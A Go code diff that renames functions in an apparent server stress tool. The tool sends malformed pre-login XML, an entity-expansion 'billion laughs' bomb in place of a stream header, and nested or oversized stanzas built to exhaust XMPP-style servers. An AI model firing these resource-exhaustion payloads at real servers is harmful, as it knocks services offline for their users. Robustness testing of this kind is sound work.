@@ -20,8 +20,8 @@ func repeat(s string) func([]byte, int) []byte {
 	return func(b []byte, _ int) []byte { return append(b, s...) }
 }
 
-// early are what is sent before login, behind a header.
-func early() []markup {
+// beforeLogin are what is sent before login, behind a header.
+func beforeLogin() []markup {
 	return []markup{
 		{"<auth", repeat("xxxxxxxxxxxxxxxx"), "", false},                                                         // a name without an end
 		{"<auth a='", repeat("xxxxxxxxxxxxxxxx"), "", false},                                                     // a value without an end
@@ -46,8 +46,8 @@ func early() []markup {
 	}
 }
 
-// instead are what is sent in place of a header.
-func instead(header string) []markup {
+// insteadOfHeader are what is sent in place of a header.
+func insteadOfHeader(header string) []markup {
 	bomb := "<!DOCTYPE l [<!ENTITY a0 'ha'>"
 	for n := 1; n < 30; n++ {
 		bomb += fmt.Sprintf("<!ENTITY a%d '&a%d;&a%d;'>", n, n-1, n-1)
@@ -63,9 +63,9 @@ func instead(header string) []markup {
 	}
 }
 
-// stanzas are payloads of messages that cost much for their size, and yet, at some 48 KiB, are within what
+// costlyPayloads are payloads of messages that cost much for their size, and yet, at some 48 KiB, are within what
 // servers commonly allow after login.
-func stanzas() []markup {
+func costlyPayloads() []markup {
 	nest := strings.Repeat("<a>", 50) + strings.Repeat("</a>", 50)
 	attrs := "<a"
 	for n := range 50 {
@@ -90,7 +90,7 @@ func stanzas() []markup {
 }
 
 // badXML is, for half of the lines, markup before login; for the other half, after it.
-func badXML(l *line, round int) error {
+func badXML(l *attacker, round int) error {
 	n := l.i/2 + round
 	if l.i%2 == 1 {
 		return l.badStanzas(n)
@@ -100,7 +100,7 @@ func badXML(l *line, round int) error {
 	if !addr.IsValid() {
 		addr = a.cfg.Direct
 	}
-	s, err := l.hail(addr)
+	s, err := l.connect(addr)
 	if err != nil {
 		return err
 	}
@@ -111,19 +111,19 @@ func badXML(l *line, round int) error {
 		}
 	}
 	header := a.header()
-	list, other := early(), instead(header)
+	list, other := beforeLogin(), insteadOfHeader(header)
 	m := list[n%len(list)]
 	if n%5 == 4 {
 		m, header = other[n/5%len(other)], ""
 	}
-	if err := s.say(header); err != nil {
+	if err := s.send(header); err != nil {
 		return err
 	}
-	return s.pour(&m, 256<<10)
+	return s.sendEndless(&m, 256<<10)
 }
 
-// pour writes m up to so many bytes, unless the server ends it before.
-func (w *wire) pour(m *markup, most int) error {
+// sendEndless writes m up to so many bytes, unless the server ends it before.
+func (w *transport) sendEndless(m *markup, most int) error {
 	end := w.drain()
 	b := []byte(m.head)
 	chunk := 4 << 10 // in an attempt
@@ -137,7 +137,7 @@ func (w *wire) pour(m *markup, most int) error {
 		if err := w.a.attempt(1); err != nil {
 			return err
 		}
-		if err := w.put(b, m.bytes); err != nil {
+		if err := w.writeAll(b, m.bytes); err != nil {
 			return err
 		}
 		select {
@@ -148,7 +148,7 @@ func (w *wire) pour(m *markup, most int) error {
 		done += len(b)
 		b = b[:0]
 	}
-	if err := w.say(m.tail); err != nil {
+	if err := w.send(m.tail); err != nil {
 		return err
 	}
 	// The server takes it all, or has not yet said what it thinks of it.
@@ -156,11 +156,11 @@ func (w *wire) pour(m *markup, most int) error {
 	case err := <-end:
 		return err
 	case <-time.After(time.Second):
-		return errLeft
+		return errDone
 	}
 }
 
-func (w *wire) put(b []byte, bytes bool) error {
+func (w *transport) writeAll(b []byte, bytes bool) error {
 	if !bytes {
 		_, err := w.top.Write(b)
 		return err
@@ -174,13 +174,13 @@ func (w *wire) put(b []byte, bytes bool) error {
 }
 
 // badStanzas is a session that writes what costs to itself, as big as it may be, and in the end bigger.
-func (l *line) badStanzas(n int) error {
+func (l *attacker) badStanzas(n int) error {
 	s, err := l.logIn(l.a.cfg.TLS)
 	if err != nil {
 		return err
 	}
 	defer s.Close()
-	list := stanzas()
+	list := costlyPayloads()
 	end := s.drain()
 	size := min(s.limit*7/8, 48<<10) // more of children would be too many for most
 	for k := range 16 {
@@ -193,7 +193,7 @@ func (l *line) badStanzas(n int) error {
 		if err := s.a.attempt(weight); err != nil {
 			return err
 		}
-		if err := s.put(b, single); err != nil {
+		if err := s.writeAll(b, single); err != nil {
 			return err
 		}
 		select {
@@ -206,14 +206,14 @@ func (l *line) badStanzas(n int) error {
 	if err := s.a.attempt(1); err != nil {
 		return err
 	}
-	if err := s.put(s.stanza(&m, s.limit+64<<10), false); err != nil {
+	if err := s.writeAll(s.stanza(&m, s.limit+64<<10), false); err != nil {
 		return err
 	}
 	select {
 	case err := <-end:
 		return err
 	case <-time.After(5 * time.Second):
-		return errLeft
+		return errDone
 	}
 }
 
